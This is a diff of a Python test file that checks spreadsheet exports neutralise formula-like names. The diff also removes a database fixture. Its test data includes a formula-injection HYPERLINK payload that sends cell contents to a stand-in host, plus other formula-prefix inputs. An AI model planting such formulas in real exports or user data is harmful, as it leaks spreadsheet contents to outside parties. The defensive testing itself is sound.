@@ -6,26 +6,15 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import AsyncIterator
 from datetime import UTC, datetime
 
 import httpx
 import openpyxl
-import pytest
 
-from tests.kinerja.test_evaluations_seed import Seeder, connect
+from tests.kinerja.test_evaluations_seed import Seeder
 from tests.support.fixtures import Tokens
 
 NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "@SUM(1+1)", "+6281234", "-1+1", "\tTab"]
-
-
-@pytest.fixture
-async def seed(db: str) -> AsyncIterator[Seeder]:
-    s = await connect(db)
-    try:
-        yield s
-    finally:
-        await s.conn.close()
 
 
 async def test_formula_like_names_are_neutralised_in_every_spreadsheet_format(
